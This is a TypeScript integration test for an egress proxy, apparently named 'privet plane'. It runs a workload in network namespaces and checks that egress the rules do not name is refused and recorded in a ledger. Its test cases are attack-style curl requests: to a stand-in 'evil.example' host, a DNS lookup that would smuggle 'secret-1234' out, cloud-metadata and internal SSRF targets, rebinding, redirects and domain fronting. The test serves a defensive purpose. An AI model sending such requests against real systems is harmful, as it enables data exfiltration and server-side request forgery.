import assert from 'node:assert/strict';
import { generateKeyPairSync, hash } from 'node:crypto';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { startTestCluster } from '#platform/db/testcluster';
import type { TestCluster, TestDatabase } from '#platform/db/testcluster';
import { createAuthority, issueCertificate } from '#platform/http/authority';
import { ip, openNamespaces, whyNoNamespaces } from '../netns/stage.ts';
import type { Namespaces } from '../netns/stage.ts';

/**
 * `privet plane` in a network namespace between a workload and the world, with real packets: what the workload tries
 * must be seen by nobody, and each attempt that reached the plane has its row in the ledger.
 */
const skip = whyNoNamespaces() ?? curlMissing();
const PRIVET = fileURLToPath(new URL('../../bin/privet', import.meta.url));
const WORLD = fileURLToPath(new URL('../netns/world.ts', import.meta.url));
const TOKEN = 'privet_wld_of-this-test';
const RULES = [
  { workload: 'billing', host: 'api.example.com', port: 443, purpose: 'invoices' },
  { workload: 'billing', host: 'six.example.com', port: 443, purpose: 'invoices' },
  { workload: 'billing', host: 'rebind.example.com', port: 443, purpose: 'invoices' },
  { workload: 'billing', host: 'inside.example.com', port: 443, purpose: 'invoices' },
];

function curlMissing(): string | false {
  return process.env['PATH']?.split(':').some((place) => {
    try {
      readFileSync(join(place, 'curl'), { flag: 'r' });
      return true;
    } catch {
      return false;
    }
  })
    ? false
    : 'curl is not installed';
}

describe('egress with real packets', { skip }, () => {
  const folder = mkdtempSync(join(tmpdir(), 'privet-netns-'));
  const seenFile = join(folder, 'seen');
  let cluster: TestCluster;
  let database: TestDatabase;
  let spaces: Namespaces;

  before(async () => {
    cluster = await startTestCluster();
    database = await cluster.createDatabase();
    spaces = openNamespaces(`pv${process.pid % 10_000}`);
    await writeCertificates();
    writeFileSync(seenFile, '');
    const { names } = spaces;
    const world = spaces.start(names.world, [process.execPath, WORLD, folder, seenFile], {});
    await once(world.stdout ?? assert.fail(), 'data');
    await startPlane();
    await database.pool.query(
      'insert into egress.workload (name, token_sha256, added_by, added_at_ms) values ($1, $2, $3, 0)',
      ['billing', hash('sha256', TOKEN, 'buffer'), 'test'],
    );
  });
  after(async () => {
    spaces.end();
    await cluster.stop();
    rmSync(folder, { recursive: true, force: true });
  });

  async function writeCertificates(): Promise<void> {
    const authority = await createAuthority({ name: 'test', nowMs: Date.now() });
    writeFileSync(join(folder, 'ca.pem'), authority.certificatePem);
    const made: readonly (readonly [string, readonly string[]])[] = [
      ['plane', ['10.30.0.1', 'fd30::1']],
      ['world', [...RULES.map(({ host }) => host), 'evil.example', '169.254.169.254', '10.99.0.1']],
    ];
    for (const [name, hosts] of made) {
      const issued = await issueCertificate(authority, { name, nowMs: Date.now(), hosts });
      writeFileSync(join(folder, `${name}.pem`), issued.certificatePem);
      writeFileSync(join(folder, `${name}.key`), issued.keyPem.reveal());
    }
  }

  async function startPlane(): Promise<void> {
    const publicKey = generateKeyPairSync('ed25519').publicKey.export({ format: 'jwk' }).x;
    writeFileSync(join(folder, 'keys.json'), JSON.stringify([{ kid: 'k1', publicKey }]));
    const plane = spaces.start(spaces.names.plane, [PRIVET, 'plane'], {
      PRIVET_HOME: folder,
      PRIVET_PLANE_DATABASE_URL: database.ownerUrl,
      PRIVET_PLANE_TOKEN: 'unused',
      PRIVET_PLANE_CONTROL_URL: 'https://93.184.216.34:7080',
      PRIVET_PLANE_CONTROL_KEYS_FILE: join(folder, 'keys.json'),
      PRIVET_PLANE_TLS_CERTIFICATE_FILE: join(folder, 'plane.pem'),
      PRIVET_PLANE_TLS_KEY_FILE: join(folder, 'plane.key'),
      PRIVET_GATEWAY_TLS_CERTIFICATE_FILE: join(folder, 'plane.pem'),
      PRIVET_GATEWAY_TLS_KEY_FILE: join(folder, 'plane.key'),
      PRIVET_EGRESS_PROXY_LISTEN: '[::]:7082',
      PRIVET_EGRESS_RULES: JSON.stringify(RULES),
    });
    let log = '';
    for (const stream of [plane.stdout, plane.stderr]) {
      stream?.on('data', (bytes: Buffer) => (log += bytes.toString()));
    }
    for (const deadline = Date.now() + 60_000; !log.includes('proxy listening'); await sleep(50)) {
      assert.ok(Date.now() < deadline && plane.exitCode === null, log);
    }
  }

  const seen = () => readFileSync(seenFile, 'utf8').split('\n').filter(Boolean);
  const forget = () => writeFileSync(seenFile, '');
  const atWork = (...command: readonly string[]) => spaces.run(spaces.names.work, command);
  const curl = (...args: readonly string[]) =>
    atWork('curl', '-sS', '--max-time', '4', '--cacert', join(folder, 'ca.pem'), ...args);
  const proxied = (...args: readonly string[]) =>
    curl(
      '--proxy-cacert',
      join(folder, 'ca.pem'),
      '-x',
      `https://billing:${TOKEN}@10.30.0.1:7082`,
      ...args,
    );

  async function refused(): Promise<readonly { reason: string; hostDigest: string | null }[]> {
    const { rows } = await database.pool.query<{ entry: string }>(
      `select entry from ledger.leaf where entry like '%"kind":"egress-refused"%' order by index`,
    );
    return rows.map(
      ({ entry }) => JSON.parse(entry) as { reason: string; hostDigest: string | null },
    );
  }

  test('what a rule names is reached through the plane, by IPv4 and IPv6, and is in the ledger', async () => {
    assert.equal(proxied('https://api.example.com/'), 'hello from 93.184.216.34\n');
    assert.equal(proxied('https://six.example.com/'), 'hello from 2606:2800:220:1::34\n');
    const { rows } = await database.pool.query<{ entry: string }>(
      `select entry from ledger.leaf where entry like '%"kind":"egress-opened"%' and entry like '%"via":"proxy"%'`,
    );
    const addresses = rows.map(({ entry }) => (JSON.parse(entry) as { address: string }).address);
    assert.deepEqual(addresses, ['93.184.216.34', '2606:2800:220:1::34']);
  });

  test('nothing leaves past the proxy: direct addresses, IPv6, DNS, also with a route of its own', () => {
    forget();
    const directly = () => {
      curl('--noproxy', '*', 'https://93.184.216.34/', '-k');
      curl('--noproxy', '*', 'https://[2606:2800:220:1::34]/', '-k');
      curl('--noproxy', '*', 'http://169.254.169.254/');
      curl('--noproxy', '*', 'https://api.example.com/');
      atWork('sh', '-c', 'getent ahosts secret-1234.evil.example');
    };
    directly();
    // The workload is root in its namespace and sends everything to the plane's machine, which does not forward.
    ip('-n', spaces.names.work, 'route', 'add', 'default', 'via', '10.30.0.1');
    ip('-n', spaces.names.work, '-6', 'route', 'add', 'default', 'via', 'fd30::1');
    directly();
    // Other doors of the plane's machine are not a way through either.
    curl('--noproxy', '*', '-x', '', 'https://10.30.0.1:443/', '-k');
    assert.deepEqual(
      seen().filter((line) => !line.startsWith('tcp 93.184.216.34 7080')),
      [],
    );
  });

  test('the proxy refuses what no rule names, without a packet, and writes each down', async () => {
    forget();
    const tried: readonly (readonly [string, string])[] = [
      ['evil.example', 'https://evil.example/'],
      ['secret-1234.evil.example', 'https://secret-1234.evil.example/'],
      ['93.184.216.34', 'https://93.184.216.34/'],
      ['93.184.216.66', 'https://93.184.216.66/'],
      ['169.254.169.254', 'https://169.254.169.254/latest/meta-data/'],
      ['10.99.0.1', 'https://10.99.0.1/'],
      ['2606:2800:220:1::34', 'https://[2606:2800:220:1::34]/'],
      ['::ffff:93.184.216.34', 'https://[::ffff:93.184.216.34]/'],
      ['::ffff:169.254.169.254', 'https://[::ffff:169.254.169.254]/'],
      ['127.0.0.1', 'https://127.0.0.1:7081/readyz'],
      ['localhost', 'https://localhost:7081/readyz'],
    ];
    for (const [, url] of tried) assert.match(proxied('-k', url), /403/u, url);
    assert.match(
      proxied('http://api.example.com/', '-o', '/dev/null', '-w', '%{http_code}'),
      /405/u,
    );
    assert.deepEqual(
      seen().filter((line) => !line.includes('7080')),
      [],
    );
    const digests = new Set((await refused()).map(({ hostDigest }) => hostDigest));
    for (const [host] of tried) {
      // An address in a URL is spelled by curl and Node alike after parsing.
      const spelled = host.startsWith('::ffff:') ? null : host;
      if (spelled !== null) assert.ok(digests.has(hash('sha256', spelled)), host);
    }
    const { rows } = await database.pool.query<{ entry: string }>('select entry from ledger.leaf');
    assert.ok(
      !rows.some(({ entry }) => entry.includes('secret-1234')),
      'no name that could carry a value',
    );
  });

  test('each step of a redirect needs its rule', () => {
    forget();
    assert.match(proxied('-L', 'https://api.example.com/to/evil.example'), /403/u);
    assert.match(proxied('-L', '-k', 'https://api.example.com/to/169.254.169.254'), /403/u);
    assert.match(proxied('-L', '-k', 'https://api.example.com/to/10.99.0.1'), /403/u);
    const lines = seen().filter((line) => !line.includes('7080'));
    assert.ok(lines.some((line) => line.startsWith('https 93.184.216.34 /to/')));
    assert.ok(
      !lines.some((line) => /66|169\.254|10\.99/u.test(line.replace(/\/to\/.*/u, ''))),
      lines.join('\n'),
    );
  });

  test('a name that moves inside after it was allowed is refused (DNS rebinding)', async () => {
    forget();
    assert.equal(proxied('https://rebind.example.com/'), 'hello from 93.184.216.34\n');
    for (let i = 0; i < 3; i++) assert.match(proxied('-k', 'https://rebind.example.com/'), /403/u);
    assert.match(proxied('-k', 'https://inside.example.com/'), /403/u);
    assert.ok(!seen().some((line) => /^(?:tcp|https) (?:169|10\.)/u.test(line)), seen().join('\n'));
    assert.ok((await refused()).some(({ reason }) => reason === 'address'));
  });

  test('a tunnel is for the host it was opened for: another server name is cut off', async () => {
    forget();
    const fronted = proxied(
      '-k',
      '--connect-to',
      'evil.example:443:api.example.com:443',
      'https://evil.example/',
    );
    assert.doesNotMatch(fronted, /hello/u);
    assert.ok(!seen().some((line) => line.startsWith('https')), seen().join('\n'));
    assert.ok((await refused()).some(({ reason }) => reason === 'server-name'));
  });
});
